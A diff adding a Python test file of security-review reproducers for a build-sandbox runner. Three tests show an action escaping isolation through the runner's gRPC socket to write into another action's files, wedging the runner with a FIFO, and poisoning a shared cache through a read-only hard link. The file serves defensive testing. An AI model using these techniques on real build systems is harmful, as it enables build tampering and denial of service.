@@ -1,0 +1,100 @@
+#!/usr/bin/python3
+"""Security review reproducers for `bwrapd buildbarn-runner` (not run by CI: each FAILS while its
+finding stands; run by hand, as root, with a built helper):
+
+    TMPDIR=/var/tmp BWRAPD_JVM=1 BWRAPD=$PWD/bwrapd BWRAPD_HOME=$PWD \
+        /usr/bin/python3 src/test/buildbarn/review/attacks.py -v
+
+TMPDIR must not be below /tmp: with --root host the action's /tmp hides the host's /tmp, and a
+real farm keeps its socket and build directory elsewhere (/worker/...). Victims are directories
+made here.
+"""
+import os
+import sys
+import time
+import unittest
+
+sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), ".."))
+import bb_worker_test as T  # noqa: E402  (generates the stubs, gives Runner)
+import grpc  # noqa: E402
+from bb_worker_test import Runner, read  # noqa: E402
+
+
+def request(r, name, arguments, **change):
+    q = r.request(name, arguments)
+    for field, value in change.items():
+        setattr(q, field, value)
+    return q
+
+
+class HostRootReachesTheRunnerSocket(unittest.TestCase):
+    """--root host: an action connects to the runner's own socket (read-only mounts do not stop
+    connect(2), nor does the network namespace) and runs a second action on ANOTHER action's
+    input root, read-write; it also reads the whole build directory."""
+
+    def test(self):
+        r = Runner("--root", "host")
+        try:
+            a, b = r.action("A"), r.action("B")
+            nested = (
+                "import sys; sys.path.insert(0, %r)\n"
+                "import grpc, runner_pb2, runner_pb2_grpc\n"
+                "st = runner_pb2_grpc.RunnerStub(grpc.insecure_channel('unix:%s'))\n"
+                "st.Run(runner_pb2.RunRequest(arguments=['sh', '-c', 'echo PWNED > %s/B/root/pwned'],\n"
+                "  environment_variables={'PATH': '/bin'}, stdout_path='B/o', stderr_path='B/e',\n"
+                "  input_root_directory='B/root', temporary_directory='B/tmp', server_logs_directory='B/server_logs'), timeout=30)\n"
+            ) % (T.STUBS, r.socket, r.build)
+            r.stub.Run(request(r, "A", ["/usr/bin/python3", "-c", nested]), timeout=60)
+            self.assertFalse(os.path.exists(os.path.join(b, "root/pwned")),
+                             "action A wrote into action B's input root through the runner's socket: "
+                             + read(os.path.join(a, "stderr")))
+        finally:
+            r.close()
+
+
+class FifoAsStdoutWedgesTheRunner(unittest.TestCase):
+    """A FIFO planted by an earlier action, named as stdout_path: open(O_WRONLY) blocks forever on
+    the run thread; the deadline cannot free it; after --concurrency of them no Run ever runs."""
+
+    def test(self):
+        r = Runner("--concurrency", "1")
+        try:
+            r.action("A")
+            r.stub.Run(request(r, "A", ["mkfifo", "/fifo"]), timeout=60)
+            try:
+                r.stub.Run(request(r, "A", ["true"], stdout_path="A/root/fifo"), timeout=3)
+            except grpc.RpcError:
+                pass
+            start = time.monotonic()
+            try:
+                r.stub.Run(request(r, "A", ["true"]), timeout=10)
+            except grpc.RpcError as e:
+                self.fail("a plain Run after a FIFO stdout_path: %s after %.1f s" % (e.code(), time.monotonic() - start))
+        finally:
+            r.process.kill()
+            r.close()
+
+
+class RootActionWritesThroughReadOnlyHardLinks(unittest.TestCase):
+    """Runner and bb_worker as the same user (docs/buildbarn.md says so): an action writes through
+    a read-only input file hard-linked from the worker's cache, poisoning every later action."""
+
+    def test(self):
+        r = Runner()
+        try:
+            a = r.action("A")
+            cache = os.path.join(r.dir, "cache")
+            os.mkdir(cache)
+            blob = os.path.join(cache, "blob")
+            with open(blob, "w") as f:
+                f.write("clean\n")
+            os.chmod(blob, 0o444)
+            os.link(blob, os.path.join(a, "root/input.h"))  # bb_worker's hard-linking native build directory
+            r.stub.Run(request(r, "A", ["sh", "-c", "chmod u+w /input.h; echo POISONED >> /input.h"]), timeout=60)
+            self.assertEqual("clean\n", read(blob), "the action changed the worker's cache file")
+        finally:
+            r.close()
+
+
+if __name__ == "__main__":
+    unittest.main()
